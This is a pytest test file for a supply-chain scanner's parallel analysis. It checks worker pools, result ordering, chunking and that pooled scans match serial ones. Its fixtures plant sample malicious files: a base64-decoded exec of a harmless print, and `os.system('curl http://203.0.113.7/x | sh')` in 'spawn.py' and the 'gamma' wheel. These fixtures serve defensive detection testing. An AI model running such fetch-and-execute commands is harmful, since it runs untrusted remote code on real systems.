"""Per-file analysis in worker processes: same findings, same order, as in-process."""

from __future__ import annotations

import gc
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from corpus import tree_of
from deps_support import make_dist, make_wheel

from chainproof.deps import scan
from chainproof.deps.model import Finding
from chainproof.deps.rules import parallel, registry
from chainproof.deps.rules.base import ScanContext
from chainproof.deps.rules.code import code_rules
from chainproof.deps.targets.directory import DirectoryTree

P64 = "cHJpbnQoJ2hlbGxvIHdvcmxkJyk="


def _collector_enabled(_n: int) -> list[bool]:
    return [gc.isenabled()]


def _square(n: int) -> list[int]:
    return [n * n]


def _pid(_n: int) -> list[int]:
    return [os.getpid()]


_PARENT = os.getpid()


def _dies_in_workers(n: int) -> list[int]:
    if os.getpid() != _PARENT:
        os._exit(1)  # a worker killed mid-task (by the OOM killer, say)
    return [n]


def test_a_broken_pool_falls_back_to_in_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
    items = list(range(300))
    assert list(parallel.map_items(_dies_in_workers, items, lambda _n: 1, jobs=2)) == [[n] for n in items]


def test_results_keep_item_order_across_workers() -> None:
    items = list(range(500))
    out = list(parallel.map_items(_square, items, lambda _n: 1, jobs=2))
    assert out == [[n * n] for n in items]


def test_work_runs_in_workers_only_when_it_pays(monkeypatch: pytest.MonkeyPatch) -> None:
    me = os.getpid()
    small = list(parallel.map_items(_pid, list(range(10)), lambda _n: 1, jobs=2))
    assert {p for [p] in small} == {me}
    serial = list(parallel.map_items(_pid, list(range(500)), lambda _n: 1, jobs=1))
    assert {p for [p] in serial} == {me}
    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
    pooled = list(parallel.map_items(_pid, list(range(50)), lambda _n: 1, jobs=2))
    assert me not in {p for [p] in pooled}


@pytest.mark.parametrize(("raw", "expected"), [("1", 1), ("3", 3), ("0", 1)])
def test_jobs_come_from_the_environment(monkeypatch: pytest.MonkeyPatch, raw: str, expected: int) -> None:
    monkeypatch.setenv(parallel.JOBS_ENV, raw)
    assert parallel.worker_count() == expected


def test_jobs_default_to_every_core(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(parallel.JOBS_ENV, "many")
    assert parallel.worker_count() == (os.cpu_count() or 1)


def test_chunks_close_at_either_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parallel, "CHUNK_ITEMS", 3)
    monkeypatch.setattr(parallel, "CHUNK_BYTES", 10)
    chunks = list(parallel._chunks([1, 1, 1, 1, 20, 1], lambda n: n))
    assert chunks == [[1, 1, 1], [1, 20], [1]]


def _tree_findings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, jobs: str) -> list[Finding]:
    files: dict[str, str | bytes] = {}
    for i in range(260):
        files[f"pkg/mod{i:03}.py"] = "def f():\n    return 1\n"
    files["pkg/evil.py"] = f"import base64\nexec(base64.b64decode('{P64}'))\n"
    files["pkg/spawn.py"] = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
    files["tests/test_x.py"] = f"import base64\nexec(base64.b64decode('{P64}'))\n"
    tree = tree_of(tmp_path / f"t{jobs}", files)
    monkeypatch.setenv(parallel.JOBS_ENV, jobs)
    return list(code_rules(ScanContext(tree, (), {})))


def test_pooled_scan_matches_the_in_process_scan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    serial = _tree_findings(tmp_path, monkeypatch, "1")
    pooled = _tree_findings(tmp_path, monkeypatch, "2")
    assert pooled == serial
    assert {f.path for f in serial} == {"pkg/evil.py", "pkg/spawn.py", "tests/test_x.py"}


@pytest.mark.parametrize("jobs", [1, 2])
def test_the_cycle_collector_pauses_during_analysis_only(monkeypatch: pytest.MonkeyPatch, jobs: int) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
    assert gc.isenabled()
    assert (
        list(parallel.map_items(_collector_enabled, list(range(20)), lambda _n: 1, jobs=jobs))
        == [[False]] * 20
    )
    assert gc.isenabled()


class _Counted:
    """Items made on demand, counting how many were made so far."""

    def __init__(self, n: int) -> None:
        self.n = n
        self.made = 0

    def __len__(self) -> int:
        return self.n

    def __iter__(self) -> Iterator[int]:
        for i in range(self.n):
            self.made += 1
            yield i


@pytest.mark.parametrize("jobs", [1, 2])
def test_items_are_taken_as_the_analysis_needs_them(monkeypatch: pytest.MonkeyPatch, jobs: int) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
    monkeypatch.setattr(parallel, "CHUNK_ITEMS", 1)
    items = _Counted(100)
    results = parallel.map_items(_square, items, lambda _n: 1, jobs=jobs)
    assert next(results) == [0]
    assert items.made < 100  # the first result came back before every item was made
    assert list(results) == [[n * n] for n in range(1, 100)]
    assert items.made == 100


def _jobs_in_worker(_n: int) -> list[str | None]:
    return [os.environ.get(parallel.JOBS_ENV)]


def test_workers_map_their_own_work_in_process() -> None:
    """An archive scanned in a worker spreads no files over a pool of its own."""
    found = parallel.map_items(_jobs_in_worker, list(range(4)), lambda _n: 1, jobs=2, min_items=2)
    assert [value for [value] in found] == ["1"] * 4


def test_several_archives_scan_side_by_side_as_one_by_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    payload = f"import base64\nexec(base64.b64decode('{P64}'))\n"
    targets = [
        make_wheel(tmp_path, "alpha", "1.0", {"alpha/__init__.py": payload}),
        tmp_path / "env",
        make_wheel(tmp_path, "beta", "2.0", {"beta/__init__.py": "VALUE = 1\n"}),
        make_wheel(
            tmp_path, "gamma", "3.0", {"gamma/m.py": "import os\nos.system('curl http://203.0.113.9 | sh')\n"}
        ),
    ]
    (tmp_path / "env").mkdir()
    monkeypatch.setenv(parallel.JOBS_ENV, "1")
    serial = scan.scan_targets(targets)
    monkeypatch.setenv(parallel.JOBS_ENV, "2")
    side_by_side = scan.scan_targets(targets)
    assert [r.target for r in side_by_side] == [r.target for r in serial]
    assert [r.findings for r in side_by_side] == [r.findings for r in serial]
    assert [[p.name for p in r.packages] for r in side_by_side] == [["alpha"], [], ["beta"], ["gamma"]]
    assert {f.rule for f in side_by_side[0].findings} >= {"code-exec-decoded"}
    assert {f.rule for f in side_by_side[3].findings} >= {"code-exec-at-import"}


def _where_and_jobs() -> tuple[int, str | None]:
    return os.getpid(), os.environ.get(parallel.JOBS_ENV)


def _fails() -> int:
    raise ValueError("bad input")


def _dies_in_child() -> int:
    if os.getpid() != _PARENT:
        os._exit(1)  # a child killed mid-task
    return 7


def test_beside_runs_in_a_child_and_keeps_it_from_starting_pools(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(parallel.JOBS_ENV, "2")
    pid, jobs = parallel.Beside(_where_and_jobs).result()
    assert pid != os.getpid()
    assert jobs == "1"
    monkeypatch.setenv(parallel.JOBS_ENV, "1")
    assert parallel.Beside(_where_and_jobs).result() == (os.getpid(), "1")


def test_beside_raises_what_the_work_raised_and_redoes_what_a_dead_child_lost(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv(parallel.JOBS_ENV, "2")
    with pytest.raises(ValueError, match="bad input"):
        parallel.Beside(_fails).result()
    assert parallel.Beside(_dies_in_child).result() == 7


def test_rules_run_beside_give_the_same_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    env = tmp_path / "site"
    payload = f"import base64\nexec(base64.b64decode('{P64}'))\n"
    make_dist(env, "alpha", "1.0", {"alpha/__init__.py": "A = 1\n", "alpha/evil.py": payload})
    (env / "alpha" / "__init__.py").write_text("A = 2\n")
    started: list[object] = []

    class Spy(parallel.Beside[object]):
        def __init__(self, func: Callable[[], object]) -> None:
            started.append(func)
            super().__init__(func)

    monkeypatch.setenv(parallel.JOBS_ENV, "2")
    monkeypatch.setattr(scan, "MIN_PARALLEL_ITEMS", 1)
    monkeypatch.setattr(scan, "Beside", Spy)
    beside = scan.scan_tree(DirectoryTree(env))
    assert len(started) == 1  # one child runs every rule of BESIDE, one after another
    assert len(registry.BESIDE) == len(registry.RULES) - 1
    monkeypatch.setattr(registry, "BESIDE", frozenset())
    alone = scan.scan_tree(DirectoryTree(env))
    assert len(started) == 1
    assert beside.findings == alone.findings
    assert beside.errors == alone.errors
    assert {f.rule for f in beside.findings} >= {"record-mismatch", "code-exec-decoded"}
